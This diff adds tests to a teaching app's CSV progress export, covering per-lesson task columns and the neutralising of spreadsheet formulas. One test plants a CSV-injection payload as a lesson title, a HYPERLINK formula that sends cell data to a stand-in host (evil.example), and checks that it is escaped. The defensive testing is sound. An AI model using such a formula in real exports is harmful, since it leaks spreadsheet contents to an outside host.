@@ -196,24 +196,81 @@ def csv_rows(response) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
+TASK_COLUMNS = ["Send a query parameter (http-basics)",
+                "Get a 404 from a real resource (http-basics)"]
+
+
+def do_the_404_task(learner) -> None:
+    """Meet http-basics' "Get a 404" task with the learner's key, as curl would, and
+    open the lesson, which grades it."""
+    page = learner.get(LESSON).get_data(as_text=True)
+    key = re.search(r"X-Sandbox-Key: ([A-Za-z0-9_-]+)", page).group(1)
+    assert learner.get("/sandbox/users/999", headers={"X-Sandbox-Key": key}).status_code == 404
+    learner.get(LESSON)
+
+
 def test_the_csv_exports(app, two_answers):
-    teacher, url, _ = two_answers
+    teacher, url, learners = two_answers
+    do_the_404_task(learners[RIGHT_NAME])
     progress = teacher.get(url + "/progress.csv")
     assert progress.headers["Content-Type"] == "text/csv; charset=utf-8"
     assert progress.headers["Content-Disposition"] == 'attachment; filename=7B-progress.csv'
     rows = csv_rows(progress)
     assert rows[0] == ["username", "track", "lesson", "percent read", "first-try correct",
-                       "questions", "last active"]
+                       "questions", "last active", "tasks done", "tasks", *TASK_COLUMNS]
     by_name = {row[0]: row for row in rows[1:]}
     assert by_name[RIGHT_NAME][1:3] == ["python-backend", "http-basics"]
     assert by_name[RIGHT_NAME][4:6] == ["1", "6"]
     assert by_name["'" + WRONG_NAME][4:6] == ["0", "6"]  # a formula start, neutralised
     assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", by_name[RIGHT_NAME][6])
+    assert by_name[RIGHT_NAME][7:] == ["1", "2", "no", "yes"]
+    assert by_name["'" + WRONG_NAME][7:] == ["0", "2", "no", "no"]
     attempts = csv_rows(teacher.get(url + "/attempts.csv"))
     assert attempts[0] == ["username", "lesson", "question", "choice", "correct", "time"]
     assert sorted(row[0] for row in attempts[1:]) == sorted(["'" + WRONG_NAME, RIGHT_NAME])
     right = next(row for row in attempts if row[0] == RIGHT_NAME)
     assert right[1:5] == ["python-backend/http-basics", "q1", correct_choice(app).upper(), "yes"]
+
+
+def test_task_columns_are_blank_for_another_lessons_rows(app, two_answers):
+    teacher, url, learners = two_answers
+    do_the_404_task(learners[RIGHT_NAME])
+    join_rest_api = learners[WRONG_NAME].post(
+        "/learn/python-backend/rest-api/quiz/q1", headers=HTMX,
+        data={"csrf_token": csrf_token(learners[WRONG_NAME]), "choice": "a"})
+    assert join_rest_api.status_code == 200
+    rows = csv_rows(teacher.get(url + "/progress.csv"))
+    rest_columns = [column for column in rows[0][9:] if column.endswith("(rest-api)")]
+    assert len(rest_columns) == 3 and rows[0][9:11] == TASK_COLUMNS
+    for row in rows[1:]:
+        http_cells, rest_cells = row[9:11], row[11:]
+        if row[2] == "http-basics":
+            assert rest_cells == ["", "", ""] and row[8] == "2"
+        else:
+            assert http_cells == ["", ""] and rest_cells == ["no", "no", "no"]
+            assert row[7:9] == ["0", "3"]
+
+
+def test_a_task_title_never_becomes_a_formula(tmp_path, migrated_db):
+    import shutil
+
+    from ..conftest import PROJECT_LESSONS, make_app
+
+    lessons = tmp_path / "lessons"
+    shutil.copytree(PROJECT_LESSONS / "python-backend", lessons / "python-backend")
+    lesson = lessons / "python-backend" / "http-basics.md"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    lesson.write_text(lesson.read_text(encoding="utf-8").replace(
+        "title: Send a query parameter", f"title: {hostile}"), encoding="utf-8")
+    shutil.copy(migrated_db, tmp_path / "h.db")
+    app = make_app(tmp_path / "h.db", LESSONS_DIR=str(lessons), LESSON_CACHE=False)
+    teacher = teacher_client(app)
+    url, code = new_class(teacher)
+    learner = signed_up(app, "Ada")
+    join(learner, code)
+    assert answer(learner, correct_choice(app)).status_code == 200
+    header = csv_rows(teacher.get(url + "/progress.csv"))[0]
+    assert header[9] == f"'{hostile} (http-basics)"
 
 
 def test_an_empty_class_gives_the_header_only_and_names_survive(app):
